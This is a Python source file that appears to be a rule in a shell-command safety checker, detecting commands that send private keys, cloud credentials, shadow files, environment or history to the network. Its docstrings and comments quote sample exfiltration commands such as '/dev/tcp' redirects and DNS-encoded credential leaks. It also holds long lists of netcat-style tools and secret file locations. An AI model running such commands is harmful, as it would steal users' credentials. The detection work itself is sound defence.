"""Effect: sensitive data flows out to the network.  Private keys, cloud credentials,
password stores, ``/etc/shadow``, the environment or the shell history, sent by ``curl -F
@file``/``-d @-``/``-T``, ``wget --post-file``, ``nc``, ``/dev/tcp``, ``scp`` to another host,
pastebins — directly, from a substitution, or through encoders and pipes (``tar … | base64
| curl -d @-``).

Keys and credentials are high; the environment and history (which usually hold tokens)
are medium; a public key or an ordinary file is nothing.
"""
from __future__ import annotations

import re
from functools import lru_cache
from typing import Optional

from aish.safety.rules.code_reach import KEY_FILE_IN_CODE
from aish.safety.rules.code_secret_paths import secret_in_code
from aish.safety.home import my_home
from aish.safety.rules.common import BASE, HIGH, MEDIUM, Ctx, fragment, target
from aish.safety.rules.secret_places import COPY_SUFFIX, SECRET_PLACE
from aish.safety.rules.secret_exports import into_secret_store
from aish.safety.rules.secret_producers import prints_secret
from aish.safety.shell_words import Word
from aish.safety.lazy_regex import lazy
from aish.safety.program_names import alias

# Programs that send what they read on stdin to the network.
_STDIN_SENDERS = {"nc", "ncat", "netcat", "socat", "telnet", "openssl", "pastebinit", "termbin", "sendmail", "mail",
                  "mailx", "s-nail", "mutt", "wormhole", "croc", "ffsend", "nc.traditional", "nc.openbsd",
                  # other netcats and socket clients, and mail submitters that read the message on stdin
                  "pwncat", "rustcat", "rcat", "cryptcat", "sbd", "powercat", "websocat", "wscat", "gnutls-cli",
                  "nc.exe", "ncat.exe", "msmtp", "ssmtp", "esmtp", "dma", "sendxmpp"}
# Programs that hand the files on their line to someone else (a code phrase, a link), and their verbs.
_FILE_SENDERS = {"croc", "wormhole", "magic-wormhole", "ffsend", "onionshare", "onionshare-cli", "portal", "sendme",
                 "transfer", "wsend", "pastebinit", "imgur", "0x0", "dropbox_uploader", "dropbox_uploader.sh",
                 "ipfs", "w3", "sharing", "swaks", "sendemail", "mpack", "neomutt"}
_SEND_WORDS = {"send", "upload", "share", "put", "push", "add", "tx", "file", "files"}
# Programs that send files named on their line to the network.
_SENDERS = {"curl", "wget", "http", "https", "xh", "httpie", "curlie", "scp", "sftp", "rsync", "rclone", "aws",
            "gsutil", "gh", "ssh", "ftp", "lftp", "tftp", "smbclient", "invoke-restmethod", "invoke-webrequest",
            "irm", "iwr", "transfer", "ffsend", "croc", "wormhole", "mail", "mailx", "mutt", "winscp.com", "winscp",
            "winscp.exe", "psftp", "hping3", "hping", "nping"} | \
    _STDIN_SENDERS | _FILE_SENDERS
# Copy tools: their destination is a machine the user names (a backup of home is routine).
_COPIERS = {"scp", "sftp", "rsync", "rclone", "aws", "gsutil", "smbclient", "lftp", "ftp"}
# Commands whose output is secret.
_SECRET_OUTPUT = lazy(
    r"^(env|printenv|set|export\s+-p|declare\s+-[xp]|typeset(\s+-[xp])?|history|fc\s+-l|gpg\s+.*--export-secret|"
    r"aws\s+configure\s+(export-credentials|get)|aws\s+sts\s+get-session-token|gcloud\s+auth\s+.*print-[\w-]*token|"
    r"az\s+account\s+get-access-token|kubectl\s+config\s+view\s+.*--raw|kubectl\s+get\s+secrets?\b.*-o|"
    r"security\s+(find-generic-password|find-internet-password|dump-keychain)|pass\s+(show\s+)?\S|"
    r"vault\s+(kv\s+get|read)|op\s+(read|item\s+get)|gh\s+auth\s+token|cat\s+/proc/(\d+|self|\$\$)/environ|"
    r"doppler\s+secrets|heroku\s+config|keepassxc-cli\s+(show|export)|bw\s+(get|export))\b")
# Commands that print the clipboard, which often holds a password a manager copied there.
_CLIPBOARD_READ = lazy(r"^(pbpaste|wl-paste|xclip\s+.*-o\b|xclip\s+-o|xsel\s+(.*\s)?-(o|-output|[a-z]*o)\b|"
                       r"Get-Clipboard|gpaste-client\s+get|termux-clipboard-get|powershell.*Get-Clipboard)",
                       re.IGNORECASE)
# Whole databases dumped: what they hold leaves with them.
_DATA_DUMP = lazy(r"^((docker|podman|nerdctl)\s+(image\s+)?save|(docker|podman)\s+(container\s+)?export|"
                  r"pg_dumpall|pg_dump|mysqldump|mariadb-dump|mongodump|mongoexport|sqlite3\s+\S+\s+\.dump|"
                  r"redis-cli\s+.*--rdb|etcdctl\s+snapshot\s+save|influx\s+backup|cockroach\s+dump)\b")
_ENV_LIKE = lazy(r"^(env|printenv|set|export|declare|typeset|history|fc)\b")
# A command run inside a container or on a pod: what it prints comes back here (`kubectl exec web -- env`).
_INSIDE = lazy(r"^((kubectl|oc)\s+exec\s+.*?\s--\s+|(docker|podman|nerdctl)\s+(exec|run)\s+(-\S+\s+)*\S+\s+)")
_SECRET_NAME = re.compile(r"(^|/)(id_(rsa|dsa|ecdsa|ed25519|\*)(_sk)?|[\w.*-]*\.(pem|key|p12|pfx|kdbx|keystore|jks)|"
                          r"\.env(\.\w+)?|credentials(\.json)?|secrets?\.(ya?ml|json|toml)|\.netrc|\.pgpass|"
                          r"[\w.-]*\.tfstate(\.backup)?|kubeconfig[\w.-]*|[\w-]*credentials[\w.-]*\.json|"
                          r"\.git-credentials|shadow|gshadow|\.vault-token|service-account\w*\.json|"
                          r"Cookies|Login Data|Web Data|cookies\.sqlite|logins\.json|key[34]\.db|signons\.sqlite|"
                          # tools' own login files: tokens and passwords kept in a tool's dotfile or config
                          r"\.npmrc|\.yarnrc(\.yml)?|\.pypirc|\.s3cfg|\.boto|\.my\.cnf|\.mylogin\.cnf|\.msmtprc|"
                          r"\.fetchmailrc|\.databrickscfg|\.terraformrc|\.dockercfg|\.sentryclirc|\.git-credentials|"
                          r"\.docker/config\.json|gh/hosts\.ya?ml|glab-cli/config\.ya?ml|\.config/hub|"
                          r"settings-security\.xml|\.m2/settings\.xml|\.kaggle/kaggle\.json|rclone\.conf|"
                          r"doctl/config\.ya?ml|hcloud/cli\.toml|\.azure/(accessTokens|msal_token_cache)\.json|"
                          r"gcloud/(credentials|access_tokens)\.db|"
                          # network and VPN secrets, keytabs, wallets, apps' saved passwords, deploy configs with them
                          r"system-connections/[^/]+|wpa_supplicant[\w.-]*\.conf|[\w.-]*\.keytab|wireguard/[\w.-]+\.conf|"
                          r"wg\d+\.conf|[\w.-]*\.ovpn|[\w.-]*\.psk|filezilla/(sitemanager|recentservers)\.xml|"
                          r"\.purple/accounts\.xml|\.vnc/passwd|wallet\.dat|keystore/[^/]+|wp-config\.php|"
                          r"ngrok\d?/ngrok\.yml|ngrok\.yml|\.wakatime\.cfg|[\w.-]*\.tfvars|master\.key|\.htpasswd|"
                          r"ssl/private/[^/]+|"
                          # a file whose name says it holds a login: auth.json, credentials.toml, token, api_key.txt
                          r"(auth|credentials?|token|api[_-]?keys?)(\.(json|ya?ml|toml|ini|conf|cfg|txt|db))?)$")

# Windows' secret files, in any case: browsers' saved logins and their key, FileZilla's and WinSCP's saved sites,
# web.config's connection strings, answer files and Group Policy preferences (passwords in them), DPAPI's
# credentials and master keys, PowerShell's history, the registry hives and the AD database.
_WINDOWS_SECRET = lazy(r"(^|/)(login data|web data|cookies|local state|sitemanager\.xml|recentservers\.xml|"
                       r"winscp\.ini|confcons\.xml|web\.config|(auto)?unattend(ed)?\.xml|sysprep\.(xml|inf)|"
                       r"(groups|services|scheduledtasks|datasources|drives|printers)\.xml|"
                       r"consolehost_history\.txt|ntds\.dit|sam|security|system)$|"
                       r"/microsoft/(credentials|protect|vault)(/|$)|/\.(ssh|aws|azure|kube|gnupg|docker)(/|$)|"
                       r"(^|/)(credentials|\.git-credentials|\.netrc|_netrc|\.pgpass|\.npmrc|\.env)$",
                       re.IGNORECASE)
_HISTORY_WINDOWS = lazy(r"consolehost_history\.txt$", re.IGNORECASE)

# Files under ~/.ssh that hold no key: the client's settings, the hosts it has seen, the keys let in (all public).
_SSH_NOT_SECRET = re.compile(r"(^|/)\.ssh/(config|known_hosts(\.old)?|authorized_keys2?)$")

# Secrets a container or pod is given as files (a service account's token, Docker and Compose secrets).
_MOUNTED_SECRET = re.compile(r"/kubernetes\.io/serviceaccount/token$|^/(var/)?run/secrets/[^/]+(/[^/]+)?$")


def secret_path(w: Word) -> str:
    """'high' for keys and credentials, 'medium' for history, '' for anything else.

    Kept per word, directory and home (paths recur: ~/.ssh/id_rsa on many lines, a line's rules ask about the
    same words): all the reading depends on, for a word with no expansion and a word and directory with none
    of the characters a Windows path or an environment variable needs (those are read afresh, as
    ``classify`` reads them: whose ``C:\\Users\\NAME`` is yours depends on ``USERNAME``)."""
    text = w.text
    if w.has_var or len(text) > _KEPT_WORD or _MAYBE_WINDOWS.search(text) or text.startswith("//"):
        return _secret_path(w)
    base = BASE.get()
    if base and (_MAYBE_WINDOWS.search(base) or base.startswith("//")):
        return _secret_path(w)
    return _secret_path_kept(text, w.raw, base, my_home())


_KEPT_WORD = 256
_MAYBE_WINDOWS = re.compile(r"[:\\%$]")  # as common.classify's: what a Windows path or a variable needs


@lru_cache(maxsize=8192)
def _secret_path_kept(text: str, raw: str, base: str, home: str) -> str:
    """``secret_path`` of a word with no expansion: BASE and HOME are read by ``target`` as given here."""
    return _secret_path(Word(text, raw))


# What `_secret_path` asks of every new word, compiled once (re's functions look each pattern up again per call).
_PLACEHOLDERS = lazy(r"\.(example|sample|template|dist)$")
_WINDOWS_START = lazy(r"^([A-Za-z]:\\|%\w+%\\|\$env:\w+\\|\$HOME\\|~\\|\\\\)", re.IGNORECASE)
_ENV_FILE = lazy(r"(^|/)([\w.-]*\.env|\.env\.\w+)$")
_PROC_ENVIRON = lazy(r"^/proc/(\d+|self|\$\$|\*)/environ$")


def _secret_path(w: Word) -> str:
    text = w.text
    copy = COPY_SUFFIX.search(text)
    if copy is not None:  # `credentials.gpg`, `id_rsa.bak`: the secret under another suffix
        base, suffix = text[:copy.start()], text[copy.start():]
        raw = w.raw[:len(w.raw) - len(suffix)] if w.raw.endswith(suffix) else base
        return secret_path(Word(base, raw, has_var=w.has_var))
    if text.endswith(".pub") or _PLACEHOLDERS.search(text) or _SSH_NOT_SECRET.search(text):
        return ""  # a public key, a file of placeholders, ssh's host list or client settings
    raw = w.raw.strip("'\"")
    # C:\Users\x\.aws\credentials, %APPDATA%\FileZilla\sitemanager.xml, \\dc\SYSVOL\…\Groups.xml
    if _WINDOWS_START.match(raw):
        raw = raw.replace("\\", "/")
        if _HISTORY_WINDOWS.search(raw):
            return "medium"
        return "high" if _SECRET_NAME.search(raw) or _WINDOWS_SECRET.search(raw) else ""
    t = target(w)
    path = t.path or text
    if _ENV_FILE.search(path) or _PROC_ENVIRON.match(path):
        return "medium"  # an env file, or a process's environment (`curl -d @/proc/self/environ …`)
    if t.kind in ("dot-critical", "home", "root", "userhome") or _SECRET_NAME.search(path) or \
            SECRET_PLACE.search(path) or \
            _MOUNTED_SECRET.search(path) or path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers") or \
            re.match(r"^/etc/ssh/ssh_host_\w+_key$", path):
        return "high"
    if t.kind == "history":
        return "medium"
    return ""


def _find_name_filters(words: list) -> list:
    """The name patterns of a ``find`` that filters by name (``-name '*.mp3'``)."""
    if words[0].text.rsplit("/", 1)[-1] not in ("find", "fd", "fdfind"):
        return []
    texts = [w.text for w in words]
    found = [texts[k + 1] for k, t in enumerate(texts[:-1]) if t in ("-name", "-iname", "-path", "-ipath", "-regex")]
    return found


def _xargs_sends(c: Ctx) -> bool:
    """Under ``xargs``, do the names fed in go out: uploaded (``curl -F f=@{}``), in a URL
    (``curl "…?k={}"``) or copied to a host (``scp {} host:``)?  ``xargs rsync {} /mnt/`` copies locally."""
    named = _named_files(c)
    if any("{}" in t and ("://" in t or "?" in t) for t in c.texts):
        return True
    return any("{}" in f for f in named) or bool(named) and not any("{}" in t for t in c.texts)


_CODE_RUNNER = lazy(r"^(python[\d.]*|perl|ruby|node|php|lua|bun|deno|pwsh|powershell)$")


def _worse(a: str, b: str) -> str:
    return "high" if "high" in (a, b) else "medium" if "medium" in (a, b) else ""


def _segment_reads_secret(seg) -> str:
    """Does this segment of a pipe print something secret (a key file, the environment...)?"""
    words = seg.words
    if not words:
        return ""
    line = " ".join(w.text for w in words)
    line = re.sub(r"^(sudo|doas)\s+(-\S+\s+)*", "", line)
    line = _INSIDE.sub("", line)
    found = ""
    if _SECRET_OUTPUT.match(line):
        found = "medium" if _ENV_LIKE.match(line) else "high"
    elif _CLIPBOARD_READ.match(line) or _DATA_DUMP.match(line):
        found = "medium"
    else:
        found = prints_secret(line.split())  # `docker-credential-pass get`, `rbw get x`, `age -d -i k f.age`
    patterns = _find_name_filters(words)
    if patterns and any(_SECRET_NAME.search(p.lstrip("*")) for p in patterns):
        found = "high"
    runner = words[0].text.rsplit("/", 1)[-1]
    if _CODE_RUNNER.match(alias(runner) or runner):  # `perl5.36 -e 'print encode_base64(`cat KEY`)' | curl`
        for w in words[1:]:
            in_code = "high" if KEY_FILE_IN_CODE.search(w.text) else secret_in_code(w.text, secret_path)
            found = _worse(found, in_code)
    printed = words[0].text in ("echo", "printf")  # `echo "$HOME" | nc`: the words are text, not files read
    group = _asked_status(words)
    for w in words[1:]:
        if w is group:
            continue  # `gh auth status`, `npm token list`: a CLI's command group, not a file named auth
        if printed:
            found = _worse(found, _in_substitutions([w]))  # `echo "$(cat ~/.ssh/id_rsa)" | nc …` still reads it
        elif not w.text.startswith("-") and w.text not in patterns and not (
                patterns and target(w).kind in ("home", "root", "userhome")):
            found = _worse(found, secret_path(w))  # `find / -name '*.mp3'` lists what its filters match
    for red in seg.redirects:
        if red.op == "<" and red.target is not None:
            found = _worse(found, secret_path(red.target))
    return found


# A CLI's command group asked who is signed in or what it holds, masked (`gh auth status`, `doctl auth list`,
# `npm token list`): the group's name is no file read; asked to show the secret itself it prints one.
_STATUS_VERBS = frozenset({"status", "list", "ls", "whoami", "check"})
_FILE_READERS = frozenset({"cat", "tac", "head", "tail", "less", "more", "base64", "base32", "xxd", "od", "hexdump",
                           "strings", "gzip", "bzip2", "xz", "zstd", "tar", "zip", "7z", "openssl", "gpg", "sort",
                           "nl"})
_SHOWS_SECRET = lazy(r"^(-t|--show-(token|secrets?|password)s?|--reveal|--plaintext)$")


def _asked_status(words: list) -> object:
    """The group word of ``PROG GROUP status|list|whoami`` (a bare name), or None."""
    if len(words) < 3 or words[0].text.rsplit("/", 1)[-1] in _FILE_READERS or \
            not re.fullmatch(r"[a-z][a-z-]*", words[1].text) or words[2].text not in _STATUS_VERBS:
        return None
    return None if any(_SHOWS_SECRET.match(w.text) for w in words[3:]) else words[1]


def _in_substitutions(words: list) -> str:
    found = ""
    for w in words:
        for sub in w.subs:
            sub = sub.strip()
            if _CLIPBOARD_READ.match(sub):
                found = _worse(found, "medium")
            if _SECRET_OUTPUT.match(sub):
                found = _worse(found, "medium" if _ENV_LIKE.match(sub) else "high")
            else:
                found = _worse(found, prints_secret(sub.split()))
            for part in re.findall(r"(?:^|\s)([~/$][^\s|;&)]+)", sub):
                found = _worse(found, secret_path(Word(part, part, has_var="$" in part)))
    return found


# Options whose value is the sender's own login: a secret there authenticates the request, it is not its payload
# (`curl -u "me:$(pass show api)"`, `-H "Authorization: Bearer $(op read …)"`).
_LOGIN_OPTIONS = frozenset({"-u", "--user", "--oauth2-bearer", "-p", "--password", "--pass", "--token", "--auth",
                            "-a", "--proxy-user", "-U"})
_LOGIN_HEADER = re.compile(r"^\s*([\w-]*(authorization|token|api-?key|auth|cookie|secret|password)[\w-]*)\s*:",
                           re.IGNORECASE)


def payload_words(args: list) -> list:
    """The words of a sender's line that can carry a payload: not the values of its login options or headers."""
    out = []
    for k, w in enumerate(args):
        before = args[k - 1].text if k else ""
        if before in _LOGIN_OPTIONS or before in ("-H", "--header") and _LOGIN_HEADER.match(w.text) or \
                _LOGIN_HEADER.match(w.text) and not w.text.startswith("-") and "://" not in w.text:
            continue
        out.append(w)
    return out


def _named_files(c: Ctx, texts: Optional[list] = None) -> list:
    """The files a sender's own line uploads (``-F f=@x``, ``-d @x``, ``-T x``, ``--post-file=x``...)."""
    texts = c.texts if texts is None else texts
    files = []
    for k, t in enumerate(texts):
        nxt = texts[k + 1] if k + 1 < len(texts) else ""
        bundle = t[-1:] if re.fullmatch(r"-[a-zA-Z]{2,}", t) else ""  # -sF, -sSd
        if (t in ("-F", "--form", "-d", "--data", "--data-binary", "--data-urlencode", "--json") or bundle in "Fd"
                and bundle) and nxt:
            m = re.search(r"[@<]([^;,]+)", nxt)
            if m:
                files.append(m.group(1))
        elif (t in ("-T", "--upload-file", "-InFile", "-infile", "--body-file", "--post-file") or
              bundle == "T") and nxt:
            files.append(nxt)
        elif t.startswith(("--post-file=", "--body-file=", "--upload-file=")):
            files.append(t.split("=", 1)[1])
        elif c.prog in ("http", "https", "xh", "xhs", "httpie") and re.match(r"^[\w.-]*(?::?=)?@[^@]+$", t) and \
                "://" not in t:  # `file@KEY` (uploaded), `k=@KEY` and `k:=@KEY` (its text embedded as a field)
            files.append(t.split("@", 1)[1])
    if c.prog in ("scp", "rsync", "sftp", "rclone", "aws", "gsutil", "smbclient") and any(
            re.match(r"^([\w.-]+@)?[\w.-]+:(?!//)|^s3://|^gs://|^\w+:", t) for t in texts[1:]):
        files += [t for t in texts if not t.startswith("-") and not re.match(r"^([\w.-]+@)?[\w.-]+:|^\w+://", t)
                  and t not in ("cp", "sync", "copy", "copyto", "s3", "mv", "move")]
    operands = [t for t in texts if not t.startswith("-")]
    if c.prog in _FILE_SENDERS and operands[:1] != ["list"]:  # `croc send FILE`: every operand goes
        files += [t.lstrip("@") for t in texts if not t.startswith("-") and t not in _SEND_WORDS]
    if c.prog == "socat":  # socat FILE:~/.kube/config TCP:host:port
        files += [re.sub(r",.*$", "", t.split(":", 1)[1]) for t in texts
                  if re.match(r"^(FILE|OPEN|GOPEN|READ|CREATE):", t, re.IGNORECASE)]
    if c.prog in ("smbclient", "lftp", "ftp", "sftp") and any(t in ("-c", "-e") for t in texts):
        script = texts[next(k for k, t in enumerate(texts) if t in ("-c", "-e")) + 1:][:1]  # -c 'put FILE'
        files += [p for line in script for p in re.findall(r"\b(?:m?put|reput)\s+([^\s;]+)", line)]
    if c.prog.lower().startswith(("winscp", "psftp")):  # WinSCP.com /command "open sftp://…" "put FILE"
        files += [p for line in texts for p in re.findall(r"(?i)\b(?:m?put|reput)\s+(?:-\S+\s+)*([^\s;]+)", line)]
    if c.prog in ("hping3", "hping") and any(t in ("-E", "--file") for t in texts):  # the file goes in the packets
        files += [texts[k + 1] for k, t in enumerate(texts[:-1]) if t in ("-E", "--file")]
    if c.prog in ("gh",) and texts[:2] == ["gist", "create"]:
        files += [t for t in texts[2:] if not t.startswith("-")]
    if c.prog in ("mail", "mailx", "mutt", "s-nail", "neomutt"):  # -a (mutt, s-nail), -A (mailutils)
        files += [texts[k + 1] for k, t in enumerate(texts[:-1]) if t in ("-a", "-A", "--attach")]
        files += [t.split("=", 1)[1] for t in texts if t.startswith("--attach=")]
    return [f for f in files if f and f != "-"]


def _reads_stdin(c: Ctx) -> bool:
    texts = c.texts
    if c.prog in _STDIN_SENDERS:
        return True
    if c.prog in ("curl", "curlie"):
        return any(t in ("@-", "-") or t.endswith(("=@-", "=<-", "@-")) or t == "." for t in texts)
    if c.prog == "wget":
        return any(t in ("--post-file=/dev/stdin", "--body-file=/dev/stdin") for t in texts)
    if c.prog in ("http", "https", "xh", "httpie"):
        return "--ignore-stdin" not in texts
    if c.prog == "ssh":
        return True
    if c.prog in ("aws", "gsutil", "rclone"):
        return "-" in texts or "rcat" in texts
    return False


# Remote commands that load what they are fed into a server or a pool (`docker load`, `psql db`, `zfs recv`).
_LOADS = lazy(r"\b(load|import|restore|psql|mysql|mariadb|pg_restore|mongorestore|mongoimport|recv|receive)\b")


def rule_exfiltration(c: Ctx) -> Optional[tuple]:
    """A network sender whose payload is secret: named on its line, redirected in, or piped in."""
    lookup = c.prog.lower() in _LOOKUPS
    if c.prog.lower() not in _SENDERS and not lookup or into_secret_store(c.texts):
        return None  # `gh secret set K < KEY`, `aws secretsmanager put-secret-value`: stored for the user
    found = _in_substitutions(c.args if lookup else payload_words(c.args))  # `ping -p $(xxd -p KEY)`: data
    copies = c.prog in _COPIERS  # to a host the user names: only keys and credentials count, not a whole home
    as_written = {w.text: w for w in c.args}  # `C:\Users\x\.aws\credentials`: the backslashes the shell took
    raw_texts = [w.raw.strip("'\"") for w in c.args] if any("\\" in w.raw for w in c.args) else []
    as_written.update({name: Word(name, name) for name in _named_files(c, raw_texts)} if raw_texts else {})
    for name in _named_files(c) + (_named_files(c, raw_texts) if raw_texts else []):
        word = as_written.get(name) or Word(name, name, has_var="$" in name)
        if copies and target(word).kind in ("home", "root", "userhome"):
            continue
        found = _worse(found, secret_path(word))
    for red in c.seg.redirects:
        if red.op == "<" and red.target is not None:
            found = _worse(found, secret_path(red.target))
    if (_reads_stdin(c) or c.xargs and _xargs_sends(c)) and c.chain:
        loads = c.prog == "ssh" and _LOADS.search(" ".join(c.texts))  # a dump restored over there, not kept
        for feeder in c.chain:
            got = _segment_reads_secret(feeder)
            found = found if loads and got == "medium" else _worse(found, got)
    return sent(found, c)


def sent(found: str, c: Ctx, who: str = "") -> Optional[tuple]:
    """The finding for a secret of class ``found`` ("high", "medium" or "") sent out by ``c``."""
    if not found:
        return None
    level = HIGH if found == "high" else MEDIUM
    what = "keys or credentials" if found == "high" else "the environment, history, clipboard or secrets"
    return level, f"{who + ' ' if who else ''}sends {what} to another machine ({fragment([w.raw for w in c.words])})"


def rule_tcp_redirect(seg) -> Optional[tuple]:
    """``cat ~/.ssh/id_rsa > /dev/tcp/host/port``: bash opens a connection and writes to it."""
    if not any(r.target is not None and r.target.text.startswith(("/dev/tcp/", "/dev/udp/")) and ">" in r.op
               for r in seg.redirects):
        return None
    found = _segment_reads_secret(seg)
    if not found:
        return None
    return (HIGH if found == "high" else MEDIUM,
            f"sends {'keys or credentials' if found == 'high' else 'secrets'} to another machine over /dev/tcp")


# Programs that only look a name up: the name itself carries data (`dig $(base64 -w0 ~/.aws/credentials).x.example`).
_LOOKUPS = {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "traceroute", "tracepath",
            # any resolver or prober: the name or the padding it sends is the data
            "doggo", "dog", "q", "resolvectl", "getent", "adig", "ahost", "dnsget", "dnslookup", "dnsx", "massdns",
            "resolve-dnsname", "nslookup.exe", "fping", "arping", "tcping", "mtr", "whois", "nping", "hping3",
            "hping", "test-connection", "test-netconnection", "psping"}
RULES: dict = {p: [rule_exfiltration] for p in _SENDERS | _LOOKUPS}
